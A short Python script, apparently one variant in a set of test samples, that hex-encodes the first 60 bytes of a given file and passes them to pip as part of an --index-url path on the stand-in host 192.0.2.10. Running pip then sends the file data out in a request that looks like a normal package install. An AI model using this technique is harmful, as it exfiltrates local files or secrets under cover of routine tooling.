"""The same through pip's own module."""

import runpy
import sys

data = open(sys.argv[1], "rb").read(60).hex()
sys.argv = ["pip", "install", "--index-url", f"http://192.0.2.10/{data}/simple", "x"]
runpy.run_module("pip", run_name="__main__")
